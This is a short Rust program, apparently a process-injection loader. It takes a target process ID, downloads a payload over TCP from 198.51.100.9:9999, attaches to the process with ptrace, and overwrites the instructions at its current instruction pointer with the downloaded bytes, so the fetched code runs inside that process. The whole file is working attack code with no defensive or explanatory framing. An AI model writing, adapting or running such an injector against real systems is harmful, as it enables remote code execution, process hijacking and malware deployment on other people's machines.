use nix::sys::ptrace;
use nix::sys::wait::waitpid;
use nix::unistd::Pid;
use std::io::Read;
use std::net::TcpStream;

fn stage(addr: &str) -> std::io::Result<Vec<u8>> {
    let mut v = Vec::new();
    TcpStream::connect(addr)?.read_to_end(&mut v)?;
    Ok(v)
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let pid = Pid::from_raw(std::env::args().nth(1).ok_or("pid")?.parse()?);
    let mut code = stage("198.51.100.9:9999")?;
    while code.len() % 8 != 0 {
        code.push(0x90);
    }
    ptrace::attach(pid)?;
    waitpid(pid, None)?;
    let regs = ptrace::getregs(pid)?;
    for (i, word) in code.chunks(8).enumerate() {
        let w = i64::from_le_bytes(word.try_into()?);
        ptrace::write(pid, (regs.rip + i as u64 * 8) as *mut _, w)?;
    }
    ptrace::detach(pid, None)?;
    Ok(())
}
